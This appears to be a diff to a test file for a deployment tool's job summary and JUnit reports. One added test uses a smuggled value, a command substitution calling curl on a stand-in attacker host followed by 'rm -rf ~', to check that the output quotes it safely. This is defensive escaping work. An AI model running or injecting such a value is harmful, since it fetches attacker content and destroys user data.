@@ -98,6 +98,14 @@ describe('the job summary', () => {
     expect(markdown).toContain('a \\| b ## &lt;img src=x> \\`c\\` \\[d\\](e)');
   });
 
+  it('prints a command that stays one, whatever the inputs say', () => {
+    const asked = { manifest: 'a b.yml', environment: '$(curl evil.example)`; rm -rf ~|' };
+    const markdown = summaryOf(report({}, { asked }));
+    expect(markdown).toContain(
+      "``model-delivery rollback --manifest 'a b.yml' --environment '$(curl evil.example)`; rm -rf ~``\\|`'`",
+    );
+  });
+
   it('stays below 1 MiB and says that it was cut', () => {
     const timeline = Array.from({ length: 20_000 }, (_, at) => ({ at, percent: 1, because: `é${'x'.repeat(60)}` }));
     const markdown = summaryOf(report({}, { timeline }));
@@ -137,7 +145,7 @@ describe('JUnit', () => {
     expect(junitOf(report())).toContain('failures="0" skipped="0" time="1865.000"');
     expect(junitOf(report({ outcome: 'pending', reason: 'approval-pending' }))).toContain('<skipped message="pending/');
     const failed = junitOf(report({ outcome: 'rolled-back', reason: 'alarm', because: '"5xx" > 1 % & rising\u0007' }));
-    expect(failed).toContain('message="rolled-back/alarm: &quot;5xx&quot; &gt; 1 % &amp; rising"');
+    expect(failed).toContain('message="rolled-back/alarm: &#34;5xx&#34; &#62; 1 % &#38; rising\\u0007"');
     expect(failed).toContain('failures="1"');
   });
 });
